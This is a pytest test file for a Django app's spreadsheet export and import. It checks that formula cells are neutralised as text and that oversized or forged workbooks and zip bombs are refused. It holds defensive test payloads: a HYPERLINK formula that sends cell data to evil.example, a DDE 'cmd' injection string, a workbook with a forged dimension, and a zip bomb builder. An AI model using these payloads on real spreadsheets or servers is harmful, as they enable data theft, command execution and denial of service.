"""Spreadsheets in and out: a formula typed into a referral comes back as text in every
export, the export download changes nothing, and a small workbook that claims a huge sheet
is refused at once, without building the table (issue 11, items 1 and 3)."""

import io
import re
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.utils import translation
from openpyxl import Workbook, load_workbook

from areas.models import Area
from docking.models import Referral, ReferralBatch
from jiefen.spreadsheets import TableError, append_row, read_table
from tests.factories import NOW
from tests.test_docking import DAY, good_row, push, settle, upload, web

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module", autouse=True)
def chinese_catalog():
    call_command("compile_translations", verbosity=0)
    translation.trans_real._translations = {}
    translation.trans_real._default = None


def formulas(xlsx: bytes) -> list[str]:
    """The formula elements of every sheet of a workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [
            f
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for f in re.findall(rb"<f>.*?</f>", z.read(name))
        ]


def test_every_formula_like_cell_is_written_as_text():
    wb = Workbook()
    values = [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "ordinary", -5, 3.5]
    append_row(wb.active, values)
    out = io.BytesIO()
    wb.save(out)
    assert formulas(out.getvalue()) == []
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    # The same characters, as text (the quote prefix keeps them text when edited in Excel).
    assert [c.value for c in cells] == values
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:6])
    assert cells[7].data_type == "n"  # numbers stay numbers
    # Control characters, which a workbook cannot hold, are dropped instead of failing.
    append_row(wb.active, ["a\x01b\x0b"])
    assert wb.active["A2"].value == "ab"


def test_a_formula_in_a_referral_comes_back_as_text_and_the_export_changes_nothing(county):
    push(county, PAYLOAD, "M-1")
    cases = {r.external_ref: r.case for r in Referral.objects.select_related("case")}
    settle(county, cases[PAYLOAD], "resolve", NOW + 5 * DAY)
    settle(county, cases["M-1"], "resolve", NOW + 5 * DAY)
    client = web(county, "liaison")

    r = client.get("/docking/export.xlsx")
    assert r.status_code == 200
    assert formulas(r.content) == []
    rows = list(load_workbook(io.BytesIO(r.content)).worksheets[0].iter_rows(values_only=True))
    assert PAYLOAD in [row[0] for row in rows]
    # A GET changes nothing: the outcomes are not recorded as reported back.
    assert not Referral.objects.filter(reported_at__isnull=False).exists()
    assert client.get("/docking/reported/").status_code == 405

    # Reporting back is an action of its own, on the list page, for the referring unit.
    page = client.get("/docking/").content.decode()
    assert 'action="/docking/reported/"' in page
    r = client.post("/docking/reported/?q=M-1", follow=True)
    assert "1 件办理结果已记为反馈" in r.content.decode()
    assert set(
        Referral.objects.filter(reported_at__isnull=False).values_list("external_ref", flat=True)
    ) == {"M-1"}
    # The center's clerk is not the referring unit: the button records nothing for them.
    assert (
        'action="/docking/reported/"' not in web(county, "cclerk").get("/docking/").content.decode()
    )


def test_the_error_report_of_a_batch_keeps_a_formula_as_text(county):
    client = web(county, "liaison")
    # Typed as text in the uploaded file (a "=" cell would be read as its computed value).
    dde = "+cmd|' /C calc'!A0"
    upload(client, [good_row(dde, category_code="")])
    pk = ReferralBatch.objects.get().pk
    r = client.get(f"/docking/batches/{pk}/errors.xlsx")
    assert r.status_code == 200 and formulas(r.content) == []
    rows = list(load_workbook(io.BytesIO(r.content)).worksheets[0].iter_rows(values_only=True))
    assert dde in [row[1] for row in rows], rows


def test_statistics_exports_keep_a_formula_in_a_name_as_text(county, november):
    unit = county.centers[county.towns[0].code]
    unit.name = "=1+2"
    unit.save()
    client = Client()
    client.force_login(county.users["leader"])
    r = client.get(
        "/stats/export/units.xlsx",
        {
            "area": county.towns[0].pk,
            "period": "custom",
            "start": "2026-11-01",
            "end": "2026-11-30",
        },
    )
    assert r.status_code == 200 and formulas(r.content) == []


# ---------------------------------------------------------------- reading


def claiming_workbook(dimension: str = "A1:XFD1500", header=("code", "name", "level")) -> bytes:
    """A tiny workbook whose sheet claims `dimension`: what a 1.5 KB file can make openpyxl
    pad to 1,500 rows of 16,384 cells."""
    wb = Workbook()
    wb.active.append(list(header))
    wb.active.append(["430122000000", "望城县", "county"])
    out = io.BytesIO()
    wb.save(out)
    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    patched = io.BytesIO()
    with zipfile.ZipFile(patched, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rb'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>'.encode(), data
                )
                assert dimension.encode() in data
            z.writestr(item, data)
    return patched.getvalue()


def test_a_workbook_claiming_a_huge_sheet_is_read_as_what_it_holds(settings):
    content = claiming_workbook()
    assert len(content) < 8000
    tracemalloc.start()
    started = time.perf_counter()
    table = read_table("areas.xlsx", content)
    header = table.header()
    rows = list(table.rows())
    elapsed = time.perf_counter() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert header == (1, ["code", "name", "level"])
    assert rows == [(2, ["430122000000", "望城县", "county"])]
    # Padding to the claimed 1,500 × 16,384 cells took 100–270 MB and seconds.
    assert peak < 10 * 1024 * 1024, peak
    assert elapsed < 2, elapsed


def big_workbook(rows: int, cols: int = 3) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(["code", "name", "level"] + [f"c{i}" for i in range(cols - 3)])
    for i in range(rows):
        ws.append([f"4301{i:08d}", f"村{i}", "village"] + ["x"] * (cols - 3))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_rows_and_columns_past_the_limits_are_refused_at_the_first_such_row(settings):
    settings.SPREADSHEET_MAX_ROWS = 100
    settings.SPREADSHEET_MAX_COLUMNS = 10
    read = []
    table = read_table("areas.xlsx", big_workbook(10_000))
    table.header()
    with pytest.raises(TableError) as e:
        for row in table.rows():
            read.append(row)
    # Reading stopped at the cap, not at the end of the file.
    assert len(read) == 99
    assert "101" in e.value.message and "100" in e.value.message
    assert e.value.field_errors["file"] == e.value.message

    with pytest.raises(TableError) as e:
        read_table("areas.xlsx", big_workbook(3, cols=12)).header()
    assert "10" in e.value.message

    csv = "\n".join(["code,name,level"] + [f"4301{i:08d},村{i},village" for i in range(200)])
    with pytest.raises(TableError):
        list(read_table("areas.csv", csv.encode()).rows())


def test_a_zip_bomb_is_refused_before_it_is_unpacked(settings):
    settings.SPREADSHEET_MAX_UNPACKED_BYTES = 1024 * 1024
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings.xml", b"<a>" + b"x" * 5_000_000 + b"</a>")
    assert len(out.getvalue()) < 50_000
    with pytest.raises(TableError) as e:
        read_table("areas.xlsx", out.getvalue()).header()
    assert "MB" in e.value.message


def test_the_import_pages_refuse_an_oversized_table_with_the_row(county, settings, admin_client):
    settings.SPREADSHEET_MAX_ROWS = 50
    content = big_workbook(100)
    r = admin_client.post(
        "/manage/areas/import/", {"file": SimpleUploadedFile("areas.xlsx", content)}
    )
    page = r.content.decode()
    assert "第 51 行" in page and "最多 50 行" in page
    assert not Area.objects.filter(name="村1").exists()  # nothing half-written

    r = web(county, "liaison").post(
        "/docking/upload/", {"file": SimpleUploadedFile("x.xlsx", claiming_workbook("A1:XFD1500"))}
    )
    assert r.status_code == 200  # read as what it holds: its header lacks the template's columns
    assert "表头缺少模板中的这些列" in r.content.decode()

    settings.IMPORT_MAX_BYTES = 1024
    r = admin_client.post(
        "/mediation/manage/import/", {"file": SimpleUploadedFile("roster.xlsx", content)}
    )
    assert "文件大于 1.0\xa0KB" in r.content.decode()
